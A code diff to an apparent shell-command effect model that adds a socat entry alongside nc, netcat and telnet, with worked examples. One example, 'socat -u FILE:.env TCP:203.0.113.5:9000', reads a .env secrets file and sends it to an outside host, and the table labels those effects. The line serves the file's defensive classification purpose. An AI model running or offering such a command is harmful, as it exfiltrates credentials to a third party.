@@ -156,7 +156,21 @@ export const NETWORK: ProgramSpec[] = [
     ],
   },
   {
-    names: ['nc', 'ncat', 'netcat', 'telnet', 'socat'],
+    // socat ADDRESS ADDRESS: each a TYPE:params address (FILE:.env reads the file, TCP:host:port connects).
+    names: ['socat'],
+    rows: [
+      {
+        takes: ['-d', '-D', '-l', '-lf', '-b', '-T', '-t', '-L', '-W'],
+        rest: 'address',
+        examples: [
+          { command: 'socat -u FILE:.env TCP:203.0.113.5:9000', effects: ['read(.env, content)', 'send(203.0.113.5)'] },
+          { command: 'socat TCP-LISTEN:8080,fork TCP:localhost:3000', effects: ['send(localhost)'] },
+        ],
+      },
+    ],
+  },
+  {
+    names: ['nc', 'ncat', 'netcat', 'telnet'],
     rows: [
       {
         takes: ['-p', '-w', '-s', '-e', '-c', '-i', '-q', '-x', '-X'],
